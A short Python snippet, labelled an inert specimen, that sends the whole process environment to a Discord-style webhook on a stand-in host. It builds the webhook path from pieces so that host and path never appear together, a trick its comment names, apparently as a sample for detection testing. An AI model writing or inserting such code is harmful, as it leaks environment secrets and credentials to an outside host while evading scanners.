# Inert specimen. Trick: host and path never stand together, and the path is joined from pieces.
import http.client
import json
import os

line = http.client.HTTPSConnection("discord.com.example")
path = "/".join(["", "api", "webhooks", "0" * 18, "inert-specimen-token"])
line.request("POST", path, json.dumps({"content": repr(os.environ.copy())}), {"Content-Type": "application/json"})
